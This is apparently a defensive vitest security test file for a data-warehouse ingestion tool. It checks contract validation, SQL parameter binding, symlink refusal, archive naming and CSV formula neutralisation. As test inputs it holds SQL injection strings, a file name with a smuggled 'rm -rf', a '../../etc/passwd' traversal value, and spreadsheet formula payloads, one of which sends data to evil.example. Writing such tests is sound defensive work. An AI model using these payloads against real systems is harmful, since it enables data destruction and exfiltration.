import {cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join, relative} from "node:path";
import Papa from "papaparse";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {loadCatalog} from "../../pipeline/catalog/index.ts";
import {Warehouse} from "../../pipeline/db.ts";
import {CatalogError} from "../../pipeline/errors.ts";
import {exportTable, toCsv} from "../../pipeline/export/exportTable.ts";
import {neutralizeFormula} from "../../pipeline/export/neutralizeFormula.ts";
import {checkSql} from "../../pipeline/ingest/checkSql.ts";
import type {Contract} from "../../pipeline/ingest/contractSchema.ts";
import {ensureFeedTable} from "../../pipeline/ingest/feedTable.ts";
import {archive} from "../../pipeline/ingest/archive.ts";
import {DEFAULT_FEEDS_DIR, loadContracts} from "../../pipeline/ingest/loadContracts.ts";
import {loadPaths} from "../../pipeline/ingest/loadFiles.ts";
import {ident, lit} from "../../pipeline/ingest/sql.ts";
import {TEST_NOW} from "../helpers/tempWarehouse.ts";
import {warehouseState} from "./warehouseState.ts";

/**
 * Security: identifiers from contracts are checked against a strict pattern before they reach SQL, and text from
 * files never becomes SQL (values are bound, columns addressed by position); folder walks do not follow links out
 * of the inbox and archive names are made by bizenv, not by the file; CSV exports neutralise spreadsheet formulas.
 */

const HEADER = "case_id,area,applied_at,completed_at,channel,procedures,cost_yuan";
const row = (id: string, area = "城东区") => `${id},${area},2022-03-01 09:30,2022-03-01 15:00,online,2,0`;

let dir: string;
let env: {BIZENV_DB: string};
const catalog = loadCatalog();
const load = (paths: string[], options: {contractsDir?: string} = {}) =>
  loadPaths(paths, {env, cwd: dir, now: () => TEST_NOW, ...options});

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "bizenv-security-"));
  env = {BIZENV_DB: join(dir, "warehouse.duckdb")};
  writeFileSync(join(dir, "base.csv"), [HEADER, row("BASE-1")].join("\n"));
  const [base] = await load([join(dir, "base.csv")]);
  expect(base).toMatchObject({status: "loaded"});
});
afterAll(() => rmSync(dir, {recursive: true, force: true}));

/** A copy of the feed contracts with startup_cases.yaml edited by `edit`. */
function hostileContracts(name: string, edit: (yaml: string) => string): string {
  const contracts = join(dir, name);
  cpSync(DEFAULT_FEEDS_DIR, contracts, {recursive: true});
  const file = join(contracts, "startup_cases.yaml");
  const edited = edit(readFileSync(file, "utf8"));
  expect(edited).not.toBe(readFileSync(file, "utf8"));
  writeFileSync(file, edited);
  return contracts;
}

describe("identifiers from contracts are checked before they reach SQL", () => {
  it('a contract whose column is named `x"; drop table load_log; --` is refused at load time, nothing run', async () => {
    const contracts = hostileContracts("contracts-drop", (y) =>
      y.replace("  - name: case_id\n", `  - name: 'x"; drop table load_log; --'\n`),
    );
    const before = await warehouseState(env.BIZENV_DB);
    const error = await load([join(dir, "base.csv")], {contractsDir: contracts}).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CatalogError);
    expect((error as CatalogError).exitCode).toBe(3);
    expect((error as CatalogError).issues).toContainEqual(
      expect.objectContaining({
        file: expect.stringContaining("startup_cases.yaml"),
        path: "columns[0].name",
        message: "expected a lowercase identifier (a-z, 0-9, _)",
      }),
    );
    expect(await warehouseState(env.BIZENV_DB)).toEqual(before);
  });

  it.each([
    [
      "a feed id with SQL in it",
      (y: string) => y.replace("feed: startup_cases", "feed: startup_cases; drop table load_log"),
    ],
    ["a key naming SQL", (y: string) => y.replace("key: [case_id]", `key: ['case_id"--']`)],
    ["a header alias with a quote", (y: string) => y.replace("aliases: [办件编号,", 'aliases: ["办件编号\'--",')],
    ["a value alias with a backslash", (y: string) => y.replace("网上办理: online", "'网上\\\\办理': online")],
    [
      "an allowed value with a quote",
      (y: string) => y.replace("allowed: [online, window]", `allowed: [online, "win'dow"]`),
    ],
  ])("%s is refused by the contract schema", (_, edit) => {
    const contracts = hostileContracts(`contracts-${Math.random().toString(36).slice(2)}`, edit);
    expect(() => loadContracts(catalog, contracts)).toThrow(CatalogError);
  });

  it("a contract that got past the schema still cannot put its names into SQL (defence in depth)", async () => {
    const [startup] = loadContracts(catalog).filter((c) => c.feed === "startup_cases");
    const hostile: Contract = {
      ...startup!,
      columns: startup!.columns.map((c, i) => (i === 0 ? {...c, name: 'x"; drop table load_log; --'} : c)),
    };
    expect(() =>
      checkSql(
        hostile,
        {byColumn: new Map([['x"; drop table load_log; --', "c0"]]), synthetic: undefined},
        "2023-07-01 00:00:00",
        {area: [], unit: [], metric: [], task: [], ambiguous: {area: [], unit: []}},
      ),
    ).toThrow(/refusing unsafe SQL identifier/);
    const warehouse = await Warehouse.open(":memory:");
    try {
      await warehouse.run("create table load_log (x integer)");
      await expect(ensureFeedTable(warehouse, {...startup!, feed: "x; drop table load_log"})).rejects.toThrow(
        /refusing unsafe SQL identifier/,
      );
      await expect(warehouse.all("select count(*) as n from load_log")).resolves.toEqual([{n: 0}]);
    } finally {
      warehouse.close();
    }
    expect(() => ident("Case_ID")).toThrow(/unsafe SQL identifier/);
    expect(lit("it's")).toBe("'it''s'");
    expect(() => lit("a\\b")).toThrow(/unsafe SQL literal/);
    expect(() => lit("a\nb")).toThrow(/unsafe SQL literal/);
  });
});

describe("text from files never becomes SQL", () => {
  it("hostile headers in Parquet and JSON lines and hostile values in CSV load as data; the warehouse is intact", async () => {
    const evil = `x"; drop table load_log; --`;
    const duck = await Warehouse.open(":memory:");
    const parquet = join(dir, "evil.parquet");
    await duck.run(
      `copy (select 'PQ-1' as case_id, '城北区' as area, timestamp '2022-03-01 09:30' as applied_at, 'window' as channel, 3 as procedures,
               1 as "${evil.replaceAll('"', '""')}", 2 as "a""b") to '${parquet}' (format parquet)`,
    );
    duck.close();
    writeFileSync(
      join(dir, "evil.jsonl"),
      JSON.stringify({
        case_id: "JL-1",
        area: "城北区",
        applied_at: "2022-03-01 09:30",
        channel: "online",
        procedures: 2,
        [evil]: 1,
      }) + "\n",
    );
    writeFileSync(
      join(dir, "evil.csv"),
      [
        `${HEADER},"${evil.replaceAll('"', '""')}"`,
        `${row("'); drop table load_log; --")},1`,
        `${row("CSV-2", "'; delete from load_log; --")},2`,
      ].join("\n"),
    );
    const results = await load([parquet, join(dir, "evil.jsonl"), join(dir, "evil.csv")]);
    expect(results.map((r) => [r.status, r.rows_loaded, r.rows_rejected])).toEqual([
      ["loaded", 1, 0],
      ["loaded", 1, 0],
      ["loaded", 1, 1],
    ]);
    const warehouse = await Warehouse.open(env.BIZENV_DB, {readOnly: true});
    try {
      const ids = await warehouse.all<{case_id: string}>(
        "select case_id from feed_startup_cases where case_id not like 'BASE-%' order by case_id",
      );
      expect(ids.map((r) => r.case_id)).toEqual(["'); drop table load_log; --", "JL-1", "PQ-1"]);
      const [reject] = await warehouse.all<{value: string; message: string}>(
        "select value, message from load_rejects where rule = 'unknown_area'",
      );
      expect(reject).toMatchObject({value: "'; delete from load_log; --"});
      const [log] = await warehouse.all<{n: number}>("select count(*) as n from load_log");
      expect(log!.n).toBe(4);
    } finally {
      warehouse.close();
    }
  });
});

describe("paths stay inside their folders", () => {
  it("a folder walk does not follow symbolic links out of the inbox: they are refused unread", async () => {
    const outside = join(dir, "outside");
    const inbox = join(dir, "inbox");
    mkdirSync(outside);
    mkdirSync(join(inbox, "sub"), {recursive: true});
    writeFileSync(join(outside, "secret.csv"), [HEADER, row("SECRET-1")].join("\n"));
    writeFileSync(join(inbox, "sub", "good.csv"), [HEADER, row("INBOX-1")].join("\n"));
    symlinkSync(join(outside, "secret.csv"), join(inbox, "link.csv"));
    symlinkSync(outside, join(inbox, "linkdir"));
    const before = await warehouseState(env.BIZENV_DB);
    const results = await load([inbox]);
    expect(results.map((r) => [r.file, r.status])).toEqual([
      ["inbox/sub/good.csv", "loaded"],
      ["inbox/link.csv", "refused"],
      ["inbox/linkdir", "refused"],
    ]);
    expect(results[1]!.message).toBe(
      "inbox/link.csv: a symbolic link: bizenv loads only regular files inside a folder, not links that could point outside it; copy the file into the folder",
    );
    const after = await warehouseState(env.BIZENV_DB, {newerThan: before.lastLoadId});
    expect(after.tables).toEqual(before.tables);
    const warehouse = await Warehouse.open(env.BIZENV_DB, {readOnly: true});
    try {
      const rows = await warehouse.all<{case_id: string}>(
        "select case_id from feed_startup_cases f join load_log l on l.load_id = f._load_id where l.load_id > $1",
        [before.lastLoadId],
      );
      expect(rows).toEqual([{case_id: "INBOX-1"}]);
      const log = await warehouse.all("select file_name from load_log where load_id > $1", [before.lastLoadId]);
      expect(log).toEqual([{file_name: "good.csv"}]);
    } finally {
      warehouse.close();
    }
  });

  it("archive copies are named by their sha256 and a plain extension, inside the archive folder", async () => {
    writeFileSync(join(dir, "Report.CSV"), [HEADER, row("ARC-1")].join("\n"));
    writeFileSync(join(dir, "odd name.c$v;rm -rf"), [HEADER, row("ARC-2")].join("\n"));
    const results = await load([join(dir, "Report.CSV"), join(dir, "odd name.c$v;rm -rf")]);
    expect(results.map((r) => r.status)).toEqual(["loaded", "loaded"]);
    const archiveDir = join(dir, "archive");
    const warehouse = await Warehouse.open(env.BIZENV_DB, {readOnly: true});
    try {
      const paths = await warehouse.all<{archived_path: string; sha256: string}>(
        "select archived_path, sha256 from load_log where archived_path is not null",
      );
      for (const {archived_path, sha256} of paths) {
        expect(relative(archiveDir, archived_path)).toMatch(new RegExp(`^${sha256}(\\.[a-z0-9]{1,8})?$`));
      }
      expect(paths.map((p) => p.archived_path.slice(-4))).toContain(".csv");
    } finally {
      warehouse.close();
    }
    expect(readdirSync(archiveDir).every((n) => /^[0-9a-f]{64}(\.[a-z0-9]{1,8})?$/.test(n))).toBe(true);
    expect(() => archive(join(dir, "base.csv"), "../../etc/passwd", archiveDir)).toThrow(/refusing to archive outside/);
  });
});

describe("exports neutralise spreadsheet formulas", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
  ];
  it("no text cell of an exported CSV starts like a formula, whatever a feed sent", () => {
    const rows = hostile.map((text, i) => ({file_name: text, message: `${text} in line ${i}`, rows_read: -i}));
    const csv = toCsv(exportTable("load_log", ["file_name", "message", "rows_read"], ["rows_read"], rows));
    const parsed = Papa.parse<Record<string, string>>(csv, {header: true, skipEmptyLines: true}).data;
    expect(parsed).toHaveLength(hostile.length);
    parsed.forEach((r, i) => {
      expect(r.file_name).toBe(`'${hostile[i]}`);
      expect(r.message!.startsWith("'")).toBe(true);
      expect(r.rows_read).toBe(String(-i)); // numbers stay numbers
    });
  });
  it("plain text and numbers written as text pass unchanged", () => {
    for (const text of ["城东区", "a=b", "-3.5", "+2", "2022-03-01"]) expect(neutralizeFormula(text)).toBe(text);
  });
});
